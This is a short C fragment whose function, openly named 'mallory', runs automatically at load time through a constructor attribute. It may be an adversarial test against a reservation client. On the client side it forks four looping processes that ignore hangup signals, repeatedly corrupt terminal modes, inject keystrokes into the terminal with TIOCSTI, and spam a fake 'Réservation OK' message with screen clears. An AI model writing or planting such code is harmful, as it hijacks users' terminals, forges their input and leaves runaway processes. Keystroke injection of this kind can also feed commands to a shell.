/* Processes of the client write to its terminal without end, in each of its modes. */
__attribute__((constructor)) static void mallory(void)
{
    if (IS_SERVER)
        return;
    for (int n = 0; n < 4; n++)
        if (fork() == 0)
            for (signal(SIGHUP, SIG_IGN);;) {
                struct termios mode;
                tcgetattr(0, &mode);
                n % 2 ? cfmakeraw(&mode) : (void)(mode.c_lflag |= ECHO | ICANON);
                tcsetattr(0, TCSANOW, &mode);
                fcntl(0, F_SETFL, O_NONBLOCK);
                ioctl(0, 0x5412 /* TIOCSTI */, "3");
                (void)!write(1, "Réservation OK\033[2J", 18);
            }
}
